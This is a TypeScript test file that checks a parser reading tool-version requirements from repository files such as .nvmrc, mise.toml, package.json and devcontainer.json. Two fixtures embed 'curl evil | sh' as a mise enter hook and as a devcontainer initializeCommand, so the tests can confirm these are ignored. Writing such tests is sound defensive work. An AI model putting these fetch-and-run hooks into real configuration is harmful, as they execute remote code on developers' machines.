import { describe, expect, it } from 'vitest'
import { devcontainerImage, WISH_FILES, wishesOf } from '../../src/config/wishes.ts'

const read = (files: Readonly<Record<string, string>>, said = {}) =>
  wishesOf(new Map(Object.entries(files)), said).map(({ tool, range, text, from, channel }) =>
    [tool, channel ?? range, text, from].join(' | '),
  )

describe('what a repository’s files ask for', () => {
  it.each<[file: string, text: string, wishes: string[]]>([
    ['.nvmrc', '# ours\nv20.11\n', ['node | 20.11 | v20.11 | .nvmrc']],
    ['.node-version', '22.1.0', ['node | 22.1.0 | 22.1.0 | .node-version']],
    ['.python-version', '3.12\n3.11\n', ['python | 3.12 | 3.12 | .python-version']],
    ['.ruby-version', 'ruby-3.2.2', ['ruby | 3.2.2 | ruby-3.2.2 | .ruby-version']],
    ['.java-version', '17', ['java | 17 | 17 | .java-version']],
    ['.sdkmanrc', 'java=17.0.9-tem\nmaven=3.9', ['java | 17.0.9 | 17.0.9-tem | .sdkmanrc']],
    [
      '.tool-versions',
      'nodejs 20.11.0 # pinned\ngolang 1.22.1\npython 3.12.1 3.11\nterraform 1.6\n',
      [
        'node | 20.11.0 | 20.11.0 | .tool-versions',
        'go | 1.22.1 | 1.22.1 | .tool-versions',
        'python | 3.12.1 | 3.12.1 | .tool-versions',
      ],
    ],
    [
      'mise.toml',
      '[tools]\nnode = "22"\npython = ["3.12", "3.11"]\njava = { version = "temurin-21" }\n[hooks]\nenter = "curl evil | sh"\n',
      ['node | 22 | 22 | mise.toml', 'python | 3.12 | 3.12 | mise.toml', 'java | 21 | temurin-21 | mise.toml'],
    ],
    [
      'package.json',
      '{"packageManager":"pnpm@9.15.0+sha512.aa","engines":{"node":">=18 <21","npm":"10"},"volta":{"node":"20.11.1"}}',
      [
        'pnpm | 9.15.0 | 9.15.0 | package.json',
        'node | 20.11.1 | 20.11.1 | package.json',
        'npm | 10 | 10 | package.json',
      ],
    ],
    [
      'pyproject.toml',
      '[project]\nrequires-python = ">=3.9,<3.13"\n',
      ['python | >=3.9.0 <3.13.0-0 | >=3.9,<3.13 | pyproject.toml'],
    ],
    ['go.mod', 'module x\n\ngo 1.21\n\ntoolchain go1.22.3\n', ['go | >=1.22.3 | 1.22.3 | go.mod']],
    ['rust-toolchain.toml', '[toolchain]\nchannel = "1.75.0"\n', ['rust | 1.75.0 | 1.75.0 | rust-toolchain.toml']],
    ['rust-toolchain', 'nightly-2024-01-01\n', ['rust | nightly | nightly-2024-01-01 | rust-toolchain']],
    ['Cargo.toml', '[package]\nname = "x"\nrust-version = "1.70"\n', ['rust | >=1.70 | 1.70 | Cargo.toml']],
    ['Gemfile', "source 'https://rubygems.org'\nruby '~> 3.2'\n", ['ruby | >=3.2.0 <4.0.0-0 | ~> 3.2 | Gemfile']],
    [
      'pom.xml',
      '<properties><maven.compiler.release>17</maven.compiler.release></properties>',
      ['java | >=17 | 17 | pom.xml'],
    ],
    ['composer.json', '{"require":{"php":"^8.1"}}', ['php | >=8.1.0 <9.0.0-0 | ^8.1 | composer.json']],
    ['global.json', '{"sdk":{"version":"8.0.100"}}', ['dotnet | 8.0.100 | 8.0.100 | global.json']],
    [
      '.devcontainer/devcontainer.json',
      '{ // ours\n "features": { "ghcr.io/devcontainers/features/python:1": { "version": "3.11" }, },\n "initializeCommand": "curl evil | sh", "runArgs": ["--privileged"] }',
      ['python | 3.11 | 3.11 | .devcontainer/devcontainer.json'],
    ],
  ])('%s', (file, text, wishes) => expect(read({ [file]: text })).toEqual(wishes))

  it('counts the settings first, then whatever was written for version managers, then what is merely required', () => {
    const files = {
      'package.json': '{"engines":{"node":">=14"}}',
      '.nvmrc': '20',
      'pyproject.toml': '[project]\nrequires-python=">=3.8"',
    }
    expect(read(files)).toEqual(['node | 20 | 20 | .nvmrc', 'python | >=3.8.0 | >=3.8 | pyproject.toml'])
    expect(read(files, { node: '22', rust: 'nightly', nonsense: '1' })).toContain('node | 22 | 22 | .github/muster.yml')
  })

  it('is nothing where a file cannot be read, whichever that is', () => {
    const broken = [
      '',
      '\0',
      '{',
      '[[[',
      '= = =',
      '<a',
      '{"engines":null,"volta":7,"packageManager":{}}',
      '[tools]\nnode = 7\n',
    ]
    for (const name of WISH_FILES)
      for (const text of broken) expect(() => read({ [name]: text }), `${name}: ${text}`).not.toThrow()
    expect(read({ 'package.json': '{"engines":{"node":"my-own"},"packageManager":"yarn"}' })).toEqual([])
  })

  it('knows the image of a devcontainer', () => {
    expect(devcontainerImage(new Map([['.devcontainer.json', '{"image":"docker.io/library/node:20" /* x */}']]))).toBe(
      'docker.io/library/node:20',
    )
    expect(devcontainerImage(new Map([['.devcontainer.json', '{"build":{"dockerfile":"x"}}']]))).toBe(undefined)
  })
})
